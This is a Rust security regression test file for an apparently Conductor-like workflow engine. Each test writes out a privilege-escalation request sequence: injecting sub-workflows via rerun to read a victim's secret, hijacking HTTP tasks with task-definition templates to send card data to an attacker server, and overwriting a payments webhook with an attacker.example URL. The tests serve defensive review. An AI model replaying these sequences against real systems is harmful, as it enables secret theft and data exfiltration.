//! Attacks from a security review: an application with one right too few reaching
//! what the rules keep from it. Each test is named for the attack and gives the
//! request sequence; it fails while the attack works. The attacks on masked values
//! and on reading other principals' runs are in `review_masking`.

use std::sync::{Arc, Mutex};

use axum::Json;
use axum::extract::State;
use axum::http::Uri;
use serde_json::{Value, json};

use crate::helpers::{App, TestApp, allow_loopback, application, grant, serve_locally, task_def};

pub(crate) async fn granted(app: &TestApp, who: &App, kind: &str, target: &str, access: &[&str]) {
    let answer = grant(app, &format!("app:{}", who.id), kind, target, access).await;
    assert_eq!(answer.status, 200, "{}", answer.text);
}

pub(crate) async fn call(
    app: &TestApp,
    who: &App,
    method: &str,
    path: &str,
    body: Option<Value>,
) -> crate::helpers::Answer {
    app.call_as(Some(&who.token), method, path, body).await
}

/// Polls a queue as `who` until a task arrives or about a second has passed.
async fn poll_as(app: &TestApp, who: &App, task_type: &str) -> Vec<Value> {
    for _ in 0..10 {
        let answer = call(
            app,
            who,
            "GET",
            &format!("/api/tasks/poll/batch/{task_type}?workerid=w&count=10&timeout=100"),
            None,
        )
        .await;
        assert_eq!(answer.status, 200, "{}", answer.text);
        let tasks = answer.json().as_array().cloned().unwrap_or_default();
        if !tasks.is_empty() {
            return tasks;
        }
    }
    Vec::new()
}

/// Waits until a run is no longer running; answers its status.
async fn ended(app: &TestApp, id: &str) -> String {
    for _ in 0..200 {
        let status = app.workflow(id).await["status"]
            .as_str()
            .unwrap_or_default()
            .to_string();
        if status != "RUNNING" {
            return status;
        }
        tokio::time::sleep(std::time::Duration::from_millis(25)).await;
    }
    panic!("workflow {id} is still running");
}

type Seen = Arc<Mutex<Vec<(String, String)>>>;

/// A local HTTP service that records the path and body of every request it gets.
async fn recorder() -> (String, Seen, tokio::task::JoinHandle<()>) {
    let seen: Seen = Arc::new(Mutex::new(Vec::new()));
    let router = axum::Router::new()
        .fallback(
            |State(seen): State<Seen>, uri: Uri, body: String| async move {
                seen.lock()
                    .expect("lock")
                    .push((uri.path().to_string(), body));
                Json(json!({"ok": true}))
            },
        )
        .with_state(seen.clone());
    let (url, server) = serve_locally(router).await;
    (url, seen, server)
}

/// Rerun hands the caller's data to a run that acts as someone else. An operator
/// may read and operate `parent` runs (READ and EXECUTE on it and its task type,
/// and it works that task type), but may not read the secret `vault_token`; the
/// victim who started the run may.
///
/// 1. the victim `POST /api/workflow/parent`; its `SUB_WORKFLOW` task fails (its
///    child is not registered yet), so the run fails without a child;
/// 2. the operator `POST /api/workflow/{id}/rerun` with `reRunFromTaskId` = that
///    task and `taskInput.subWorkflowDefinition` = an inline definition whose
///    worker task names `${workflow.secrets.vault_token}`;
/// 3. the operator `GET /api/tasks/poll/batch/work`.
///
/// The inline definition is taken for the parent definition's author's, the child
/// runs as the victim, and the operator receives the victim's secret. The rerun
/// was checked only against what `parent` itself needs.
#[tokio::test]
async fn rerun_task_input_injects_a_sub_workflow_that_runs_as_the_starter() {
    let app = TestApp::spawn().await;
    let secret = "vault-s3cr3t-token-value";
    let put = app
        .raw("PUT", "/api/secrets/vault_token", "text/plain", secret)
        .await;
    assert_eq!(put.status, 200, "{}", put.text);
    app.register(
        json!([task_def("work")]),
        json!({"name": "parent", "version": 1, "tasks": [
            {"name": "child", "taskReferenceName": "sub", "type": "SUB_WORKFLOW",
             "subWorkflowParam": {"name": "child", "version": 1}, "inputParameters": {}}
        ]}),
    )
    .await;
    let victim = application(&app, "victim", &[]).await;
    granted(&app, &victim, "WORKFLOW_DEF", "parent", &["EXECUTE"]).await;
    granted(&app, &victim, "TASK_DEF", "work", &["EXECUTE"]).await;
    granted(&app, &victim, "SECRET_NAME", "vault_token", &["READ"]).await;
    let operator = application(&app, "operator", &["WORKER"]).await;
    granted(
        &app,
        &operator,
        "WORKFLOW_DEF",
        "parent",
        &["READ", "EXECUTE"],
    )
    .await;
    granted(&app, &operator, "TASK_DEF", "work", &["EXECUTE"]).await;

    let started = call(
        &app,
        &victim,
        "POST",
        "/api/workflow/parent",
        Some(json!({})),
    )
    .await;
    assert_eq!(started.status, 200, "{}", started.text);
    let id = started.text;
    let failed = app.wait_for_status(&id, "FAILED").await;
    let sub_task = failed["tasks"][0]["taskId"]
        .as_str()
        .expect("task")
        .to_string();

    let injected = json!({"name": "parent", "version": 1, "tasks": [
        {"name": "work", "taskReferenceName": "w", "type": "SIMPLE",
         "inputParameters": {"t": "${workflow.secrets.vault_token}"}}
    ]});
    let rerun = call(
        &app,
        &operator,
        "POST",
        &format!("/api/workflow/{id}/rerun"),
        Some(json!({"reRunFromTaskId": sub_task,
                    "taskInput": {"subWorkflowDefinition": injected, "workflowInput": {}}})),
    )
    .await;
    let handed = poll_as(&app, &operator, "work").await;
    for task in &handed {
        assert!(
            !task["inputData"].to_string().contains(secret),
            "rerun answered {}; the operator polled the victim's secret: {task}",
            rerun.status
        );
    }
    app.stop().await;
}

/// A task definition named like another principal's `HTTP` task. The names rule
/// covers worker task types only, but the engine applies a registered task
/// definition to every node of that name, system tasks included, and merges its
/// `inputTemplate` into the node's input before resolving expressions.
///
/// 1. the admin registers `payouts`, whose `HTTP` task `notify_partner` (no task
///    definition) posts to a partner with top-level `uri`/`method`/`body`;
/// 2. an application with METADATA_API `POST /api/metadata/taskdefs`
///    `[{"name": "notify_partner", "inputTemplate": {"http_request": {"uri":
///    "<its own server>", "body": "${workflow.input}"}}}]` (accepted today);
/// 3. the admin starts `payouts` with a card number in its input.
///
/// The call goes to the attacker's server with the run's input.
#[tokio::test]
async fn a_task_definition_named_like_an_http_task_redirects_the_call() {
    let app = TestApp::spawn_with(allow_loopback).await;
    let (service, seen, server) = recorder().await;
    app.register(
        json!([]),
        json!({"name": "payouts", "version": 1, "tasks": [
            {"name": "notify_partner", "taskReferenceName": "n", "type": "HTTP",
             "inputParameters": {"uri": format!("{service}/partner"), "method": "POST",
                                 "body": {"amount": "${workflow.input.amount}"}}}
        ]}),
    )
    .await;
    let attacker = application(&app, "attacker", &["METADATA_API"]).await;
    let mut template = task_def("notify_partner");
    template["inputTemplate"] = json!({"http_request": {
        "uri": format!("{service}/steal"), "method": "POST", "body": "${workflow.input}"}});
    let claim = call(
        &app,
        &attacker,
        "POST",
        "/api/metadata/taskdefs",
        Some(json!([template])),
    )
    .await;
    let id = app
        .start(
            "payouts",
            json!({"amount": 10, "card": "4111-1111-1111-1111"}),
        )
        .await;
    app.wait_for_status(&id, "COMPLETED").await;
    let calls = seen.lock().expect("lock").clone();
    server.abort();
    assert!(
        calls.iter().all(|(path, _)| path != "/steal"),
        "claiming notify_partner answered {} {}; the call went to the attacker: {calls:?}",
        claim.status,
        claim.text
    );
    assert_eq!(claim.status, 403, "{}", claim.text);
    app.stop().await;
}

/// Tags as grants an owner may not give. An owner may not grant READ on its
/// workflow definition (it reaches the runs others start from it), but it may tag
/// the definition, and a tag grant reaches everything tagged.
///
/// 1. an application with METADATA_API registers `payroll` (it owns it); an
///    administrator lets a victim start it, and lets the owner read runs of
///    definitions tagged `team:reports`;
/// 2. the victim starts `payroll` with a salary; the owner's
///    `GET /api/workflow/{id}` is refused;
/// 3. the owner `POST /api/metadata/workflow/payroll/tags` `team:reports`;
/// 4. the owner's `GET /api/workflow/{id}` answers the victim's run.
#[tokio::test]
async fn an_owner_tags_its_definition_to_read_the_runs_others_start() {
    let app = TestApp::spawn().await;
    app.post("/api/metadata/taskdefs", json!([task_def("pay")]))
        .await;
    let owner = application(&app, "owner", &["METADATA_API"]).await;
    let registered = call(
        &app,
        &owner,
        "POST",
        "/api/metadata/workflow",
        Some(json!({"name": "payroll", "version": 1, "tasks": [
            {"name": "pay", "taskReferenceName": "p", "type": "SIMPLE",
             "inputParameters": {"salary": "${workflow.input.salary}"}}]})),
    )
    .await;
    assert_eq!(registered.status, 200, "{}", registered.text);
    let victim = application(&app, "victim", &[]).await;
    granted(&app, &victim, "WORKFLOW_DEF", "payroll", &["EXECUTE"]).await;
    granted(&app, &victim, "TASK_DEF", "pay", &["EXECUTE"]).await;
    granted(&app, &owner, "TAG", "team:reports", &["READ"]).await;
    let started = call(
        &app,
        &victim,
        "POST",
        "/api/workflow/payroll",
        Some(json!({"salary": 123456})),
    )
    .await;
    assert_eq!(started.status, 200, "{}", started.text);
    let id = started.text;
    let path = format!("/api/workflow/{id}");
    assert_eq!(call(&app, &owner, "GET", &path, None).await.status, 403);

    let tagged = call(
        &app,
        &owner,
        "POST",
        "/api/metadata/workflow/payroll/tags",
        Some(json!({"key": "team", "value": "reports", "type": "METADATA"})),
    )
    .await;
    let read = call(&app, &owner, "GET", &path, None).await;
    assert_eq!(
        read.status, 403,
        "tagging answered {} {}; the owner reads the victim's run: {}",
        tagged.status, tagged.text, read.text
    );
    app.stop().await;
}

/// The same rerun, on an `UPDATE_SECRET` task: the caller's task input names the
/// secret to write, and the engine writes it as the run's starter. An operator who
/// may rerun `rotate` runs (and may not write `payments_webhook`) overwrites a
/// secret only the victim may update.
///
/// 1. the victim `POST /api/workflow/rotate` `{"v": "..."}`; it completes, having
///    written `rotating_key`;
/// 2. the operator `POST /api/workflow/{id}/rerun` with `reRunFromTaskId` = the
///    `UPDATE_SECRET` task and `taskInput` = `{"_secrets": {"secretKey":
///    "payments_webhook", "secretValue": "https://attacker.example/hook"}}`.
#[tokio::test]
async fn rerun_task_input_makes_update_secret_write_another_secret_as_the_starter() {
    let app = TestApp::spawn().await;
    for (name, value) in [
        ("rotating_key", "old-rotating-value"),
        ("payments_webhook", "https://payments.example/hook"),
    ] {
        let put = app
            .raw("PUT", &format!("/api/secrets/{name}"), "text/plain", value)
            .await;
        assert_eq!(put.status, 200, "{}", put.text);
    }
    app.register(
        json!([]),
        json!({"name": "rotate", "version": 1, "tasks": [
            {"name": "store", "taskReferenceName": "store", "type": "UPDATE_SECRET",
             "inputParameters": {"_secrets": {"secretKey": "rotating_key", "secretValue": "${workflow.input.v}"}}}
        ]}),
    )
    .await;
    let victim = application(&app, "victim", &[]).await;
    granted(&app, &victim, "WORKFLOW_DEF", "rotate", &["EXECUTE"]).await;
    for name in ["rotating_key", "payments_webhook"] {
        granted(&app, &victim, "SECRET_NAME", name, &["READ", "UPDATE"]).await;
    }
    let operator = application(&app, "operator", &[]).await;
    granted(
        &app,
        &operator,
        "WORKFLOW_DEF",
        "rotate",
        &["READ", "EXECUTE"],
    )
    .await;
    granted(
        &app,
        &operator,
        "SECRET_NAME",
        "rotating_key",
        &["READ", "UPDATE"],
    )
    .await;

    let started = call(
        &app,
        &victim,
        "POST",
        "/api/workflow/rotate",
        Some(json!({"v": "new-rotating-value"})),
    )
    .await;
    assert_eq!(started.status, 200, "{}", started.text);
    let id = started.text;
    let done = app.wait_for_status(&id, "COMPLETED").await;
    let store = done["tasks"][0]["taskId"]
        .as_str()
        .expect("task")
        .to_string();

    let rerun = call(
        &app,
        &operator,
        "POST",
        &format!("/api/workflow/{id}/rerun"),
        Some(json!({"reRunFromTaskId": store, "taskInput": {"_secrets": {
            "secretKey": "payments_webhook", "secretValue": "https://attacker.example/hook"}}})),
    )
    .await;
    if rerun.status == 200 {
        ended(&app, &id).await;
    }
    let webhook = app.get("/api/secrets/payments_webhook").await;
    assert_eq!(
        webhook.text, "https://payments.example/hook",
        "rerun answered {} {}",
        rerun.status, rerun.text
    );
    app.stop().await;
}

/// A task definition is code for system tasks too. Its owner may change it (and
/// is told it cannot receive other people's tasks), but its `inputTemplate` is
/// merged into every node of its name and its expressions are evaluated against
/// the run: for an `HTTP` task written with top-level `uri`/`method`/`body`, a
/// template `http_request` replaces the request. The names rule stops claiming a
/// name in use; it cannot stop a name registered before a workflow used it.
///
/// 1. an application with METADATA_API registers task definition `notify_partner`
///    (a plain one; it owns it);
/// 2. the admin registers `payouts`, whose `HTTP` task is named `notify_partner`;
/// 3. the owner `PUT /api/metadata/taskdefs` `notify_partner` with `inputTemplate`
///    `{"http_request": {"uri": "<its server>", "body": "${workflow.input}"}}`;
/// 4. the admin starts `payouts` with a card number in its input.
#[tokio::test]
async fn a_task_definition_registered_first_redirects_a_later_http_task() {
    let app = TestApp::spawn_with(allow_loopback).await;
    let (service, seen, server) = recorder().await;
    let attacker = application(&app, "attacker", &["METADATA_API"]).await;
    let plain = call(
        &app,
        &attacker,
        "POST",
        "/api/metadata/taskdefs",
        Some(json!([task_def("notify_partner")])),
    )
    .await;
    assert_eq!(plain.status, 200, "{}", plain.text);
    app.register(
        json!([]),
        json!({"name": "payouts", "version": 1, "tasks": [
            {"name": "notify_partner", "taskReferenceName": "n", "type": "HTTP",
             "inputParameters": {"uri": format!("{service}/partner"), "method": "POST",
                                 "body": {"amount": "${workflow.input.amount}"}}}
        ]}),
    )
    .await;
    let mut template = task_def("notify_partner");
    template["inputTemplate"] = json!({"http_request": {
        "uri": format!("{service}/steal"), "method": "POST", "body": "${workflow.input}"}});
    let changed = call(
        &app,
        &attacker,
        "PUT",
        "/api/metadata/taskdefs",
        Some(template),
    )
    .await;
    let id = app
        .start(
            "payouts",
            json!({"amount": 10, "card": "4111-1111-1111-1111"}),
        )
        .await;
    ended(&app, &id).await;
    let calls = seen.lock().expect("lock").clone();
    server.abort();
    assert!(
        calls.iter().all(|(path, _)| path != "/steal"),
        "changing the template answered {}; the call went to the attacker: {calls:?}",
        changed.status
    );
    app.stop().await;
}

/// Terminating someone else's run with `triggerFailureWorkflow=true` starts work
/// the caller may not start. An operator may operate `settle` runs (EXECUTE), not
/// run the `refund_all` failure workflow; the victim who started the run may.
/// The failure workflow is checked for the run's principals only, and its input
/// carries the operator's `reason`.
///
/// 1. the victim `POST /api/workflow/settle`;
/// 2. the operator `DELETE /api/workflow/{id}?triggerFailureWorkflow=true&reason=...`;
/// 3. `refund_all` starts, as the victim, and its worker is handed the task.
#[tokio::test]
async fn terminate_with_trigger_starts_a_failure_workflow_the_caller_may_not_start() {
    let app = TestApp::spawn().await;
    app.register(
        json!([task_def("refund_step"), task_def("settle_step")]),
        json!({"name": "refund_all", "version": 1, "tasks": [
            {"name": "refund_step", "taskReferenceName": "r", "type": "SIMPLE",
             "inputParameters": {"why": "${workflow.input.reason}"}}
        ]}),
    )
    .await;
    app.register(
        json!([]),
        json!({"name": "settle", "version": 1, "failureWorkflow": "refund_all", "tasks": [
            {"name": "settle_step", "taskReferenceName": "s", "type": "SIMPLE", "inputParameters": {}}
        ]}),
    )
    .await;
    let victim = application(&app, "victim", &[]).await;
    for (kind, name) in [
        ("WORKFLOW_DEF", "settle"),
        ("WORKFLOW_DEF", "refund_all"),
        ("TASK_DEF", "settle_step"),
        ("TASK_DEF", "refund_step"),
    ] {
        granted(&app, &victim, kind, name, &["EXECUTE"]).await;
    }
    let operator = application(&app, "operator", &[]).await;
    granted(&app, &operator, "WORKFLOW_DEF", "settle", &["EXECUTE"]).await;
    let refuse = call(
        &app,
        &operator,
        "POST",
        "/api/workflow/refund_all",
        Some(json!({})),
    )
    .await;
    assert_eq!(refuse.status, 403, "{}", refuse.text);
    let started = call(
        &app,
        &victim,
        "POST",
        "/api/workflow/settle",
        Some(json!({})),
    )
    .await;
    assert_eq!(started.status, 200, "{}", started.text);
    let id = started.text;
    let terminated = call(
        &app,
        &operator,
        "DELETE",
        &format!("/api/workflow/{id}?triggerFailureWorkflow=true&reason=operator-says-refund"),
        None,
    )
    .await;
    let mut outcome = Value::Null;
    for _ in 0..100 {
        outcome = app.workflow(&id).await["output"]["conductor.failure_workflow"].clone();
        if !outcome.is_null() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    let mut refunds = Vec::new();
    for _ in 0..10 {
        refunds = app.poll("refund_step", 1, 100).await;
        if !refunds.is_empty() {
            break;
        }
    }
    assert!(
        refunds.is_empty(),
        "terminate answered {}; the failure workflow ran ({outcome}): {refunds:?}",
        terminated.status
    );
    app.stop().await;
}

/// Archival forgets whose authority a run carries. The archive keeps no
/// `authority` (vouched principals, cosigners), so a run restored for a restart
/// acts as its starter again, without the cosigners it had: here the operator
/// whose rerun input made it one.
///
/// 1. the victim starts `dyn_parent`, whose `SUB_WORKFLOW` is named by
///    `${workflow.input.child}` (`missing`: it fails);
/// 2. the operator `POST /api/workflow/{id}/rerun` `{"workflowInput": {"child":
///    "vault_reader"}}`: the child is refused, the operator may not run it;
/// 3. the run is archived (retention passed);
/// 4. the operator `POST /api/workflow/{id}/restart`: restored, the run starts
///    `vault_reader` as the victim alone, and the operator polls the victim's
///    secret.
#[tokio::test]
async fn a_restart_from_the_archive_drops_the_runs_cosigners() {
    const DAY_MS: i64 = 24 * 3600 * 1000;
    let app = TestApp::spawn().await;
    let secret = "vault-s3cr3t-token-value";
    let put = app
        .raw("PUT", "/api/secrets/vault_token", "text/plain", secret)
        .await;
    assert_eq!(put.status, 200, "{}", put.text);
    app.register(
        json!([task_def("work")]),
        json!({"name": "vault_reader", "version": 1, "tasks": [
            {"name": "work", "taskReferenceName": "w", "type": "SIMPLE",
             "inputParameters": {"t": "${workflow.secrets.vault_token}"}}
        ]}),
    )
    .await;
    app.register(
        json!([]),
        json!({"name": "dyn_parent", "version": 1, "tasks": [
            {"name": "dyn_child", "taskReferenceName": "sub", "type": "SUB_WORKFLOW",
             "subWorkflowParam": {"name": "${workflow.input.child}"}, "inputParameters": {}}
        ]}),
    )
    .await;
    let victim = application(&app, "victim", &[]).await;
    for (kind, name) in [
        ("WORKFLOW_DEF", "dyn_parent"),
        ("WORKFLOW_DEF", "vault_reader"),
        ("TASK_DEF", "work"),
    ] {
        granted(&app, &victim, kind, name, &["EXECUTE"]).await;
    }
    granted(&app, &victim, "SECRET_NAME", "vault_token", &["READ"]).await;
    let operator = application(&app, "operator", &["WORKER"]).await;
    granted(
        &app,
        &operator,
        "WORKFLOW_DEF",
        "dyn_parent",
        &["READ", "EXECUTE"],
    )
    .await;
    granted(&app, &operator, "TASK_DEF", "work", &["EXECUTE"]).await;

    let started = call(
        &app,
        &victim,
        "POST",
        "/api/workflow/dyn_parent",
        Some(json!({"child": "missing"})),
    )
    .await;
    assert_eq!(started.status, 200, "{}", started.text);
    let id = started.text;
    assert_eq!(ended(&app, &id).await, "FAILED");
    let rerun = call(
        &app,
        &operator,
        "POST",
        &format!("/api/workflow/{id}/rerun"),
        Some(json!({"workflowInput": {"child": "vault_reader"}})),
    )
    .await;
    assert_eq!(rerun.status, 200, "{}", rerun.text);
    assert_eq!(ended(&app, &id).await, "FAILED");
    assert!(poll_as(&app, &operator, "work").await.is_empty());

    app.advance(2 * DAY_MS);
    let runtime = app.runtime().clone();
    let archived = podium_core::service::archive::archive_due(&runtime, DAY_MS)
        .await
        .expect("archive");
    assert!(archived >= 1, "nothing archived");
    let mut operator = operator;
    operator.token = app.mint(&operator.key_id, &operator.secret, None).await;
    let restart = call(
        &app,
        &operator,
        "POST",
        &format!("/api/workflow/{id}/restart"),
        None,
    )
    .await;
    let handed = poll_as(&app, &operator, "work").await;
    for task in &handed {
        assert!(
            !task["inputData"].to_string().contains(secret),
            "restart answered {}; the operator polled the victim's secret: {task}",
            restart.status
        );
    }
    app.stop().await;
}
